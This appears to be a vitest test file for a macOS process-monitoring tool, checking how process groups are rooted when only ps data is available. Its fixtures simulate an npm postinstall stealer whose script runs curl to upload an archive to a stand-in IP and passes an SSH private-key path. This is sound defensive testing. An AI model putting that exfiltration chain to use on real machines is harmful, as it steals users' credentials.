/**
 * On a ps-only Mac (no eslogger / no Full Disk Access) every new process is known only from ps, whose argv is split
 * on whitespace. A stealer's shell running a script must still not start a group of its own (its upload would leave
 * its reads behind): an option's value is one argument, and an `-i` after the script is the script's own argument
 * (review cases: rules meant for JetBrains' `--rcfile` path with spaces hid the script).
 */
import { expect, it } from 'vitest';
import { body, esLine } from './testing/es-lines.mjs';
import { LOGIN_ZSH as zsh, S, T, psArgs, terminalSession } from './testing/terminal-session.js';

const NODE = '/opt/homebrew/bin/node';
it.each([
  ['bash -o vi SCRIPT', '/bin/bash', ['bash', '-o', 'vi', '/tmp/up.sh']],
  ['zsh -o no_rcs SCRIPT', '/bin/zsh', ['zsh', '-o', 'no_rcs', '/tmp/up.zsh']],
  ['bash --rcfile /dev/null SCRIPT', '/bin/bash', ['bash', '--rcfile', '/dev/null', '/tmp/up.sh']],
  ['pwsh -ExecutionPolicy Bypass SCRIPT', '/usr/local/microsoft/powershell/7/pwsh', ['pwsh', '-ExecutionPolicy', 'Bypass', '/tmp/up.ps1']],
  ['pwsh -WindowStyle Hidden SCRIPT', '/usr/local/microsoft/powershell/7/pwsh', ['pwsh', '-WindowStyle', 'Hidden', '/tmp/up.ps1']],
  // an -i after the script is the script's argument
  ['bash SCRIPT -i', '/bin/bash', ['bash', '/tmp/up.sh', '-i']],
  ['bash -o vi SCRIPT -i', '/bin/bash', ['bash', '-o', 'vi', '/tmp/up.sh', '-i']],
  ['bash SCRIPT -i KEY', '/bin/bash', ['bash', '/tmp/up.sh', '-i', '/Users/dana/.ssh/id_ed25519']],
  ['sh -- SCRIPT -i', '/bin/sh', ['sh', '--', '/tmp/up.sh', '-i']],
  ['zsh SCRIPT -il', '/bin/zsh', ['zsh', '/tmp/up.zsh', '-il']],
  ['bash --rcfile /dev/null SCRIPT -i', '/bin/bash', ['bash', '--rcfile', '/dev/null', '/tmp/up.sh', '-i']],
] as const)('ps-only host: a stealer\'s `%s` is no group root', (_n, path, argv) => {
  const { processes } = terminalSession(); // Terminal 800 → login 805 → -zsh 810 (ps)
  const at = S + 30;
  // all new, started after the extension: npm postinstall (node) → shell script → curl
  processes.observe({ pid: 900, processStart: S, ppid: 810, uid: 501, path: NODE, args: psArgs(900, ['node', 'postinstall.js']), source: 'ps', seenAt: at });
  processes.observe({ pid: 950, processStart: S + 1, ppid: 900, uid: 501, path, args: psArgs(950, argv), source: 'ps', seenAt: at });
  processes.observe({ pid: 960, processStart: S + 2, ppid: 950, uid: 501, path: '/usr/bin/curl', args: psArgs(960, ['curl', '-T', '/tmp/k.tgz', 'https://203.0.113.5/']), source: 'ps', seenAt: at });
  const g = processes.group(processes.get(960)!);
  expect({ root: g.root.pid, kind: g.rootKind }).toEqual({ root: 810, kind: 'terminal_shell' });
});

it('eslogger host, exec dropped by ES (global_seq gap): the next ps listing makes `bash -o vi up.sh` a root', () => {
  const { processes, pipeline } = terminalSession();
  const node = { ...zsh, pid: 900, ppid: 810, path: NODE, signingId: 'node', startMs: T - 3000 };
  pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 3000, gseq: 1, process: { ...node, path: '/bin/zsh' }, body: body.exec(node, ['node', 'postinstall.js'], '/Users/dana/src', 10) }));
  const child = { ...node, pid: 950, ppid: 900, startMs: T - 1000 };
  pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 1000, gseq: 2, process: node, body: body.fork(child, 10) }));
  // gseq 3 (exec of /bin/bash -o vi /tmp/up.sh) lost; the next snapshot: ps args, then core's path
  const argv = ['bash', '-o', 'vi', '/tmp/up.sh'];
  processes.observe({ pid: 950, processStart: Math.floor((T - 1000) / 1000), ppid: 900, uid: 501, name: 'bash', args: psArgs(950, argv), source: 'ps', seenAt: S + 5 });
  processes.observe({ pid: 950, processStart: Math.floor((T - 1000) / 1000), path: '/bin/bash', source: 'osquery', seenAt: S + 5 });
  expect(processes.group(processes.get(950)!).root.pid).toBe(810);
});
